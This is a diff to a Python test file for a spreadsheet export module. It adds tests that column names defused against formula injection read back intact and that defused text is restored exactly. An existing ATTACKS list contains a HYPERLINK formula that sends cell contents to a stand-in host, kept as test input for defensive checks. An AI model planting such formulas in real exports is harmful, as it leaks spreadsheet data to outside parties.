@@ -12,7 +12,8 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from shipworthy.core.errors import EnvironmentFailure
-from shipworthy.datasets.export import Cell, defused, write_csv, write_xlsx
+from shipworthy.datasets.export import Cell, defused, restored, write_csv, write_xlsx
+from shipworthy.datasets.table import open_table
 
 ATTACKS = [
     '=HYPERLINK("http://evil.invalid?x="&A1,"click")',
@@ -36,6 +37,19 @@ def test_a_formula_in_csv_gets_an_apostrophe_in_front(attack: str, tmp_path: Pat
     with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as stream:
         header, row = csv.reader(stream)
     assert (header[0], row[0]) == (f"'{attack}", f"'{attack}")
+
+
+@pytest.mark.parametrize("name", ["=name", "@name", "'=name", "-"])
+def test_a_defused_name_of_a_column_is_read_back(name: str, tmp_path: Path) -> None:
+    write_csv(tmp_path / "a.csv", [name, "label"], [["a", "b"]])
+
+    with open_table(tmp_path / "a.csv") as table:
+        assert table.columns == (name, "label")
+
+
+@given(st.text(max_size=20))
+def test_a_defused_text_is_restored(text: str) -> None:
+    assert restored(str(defused(text))) == text
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
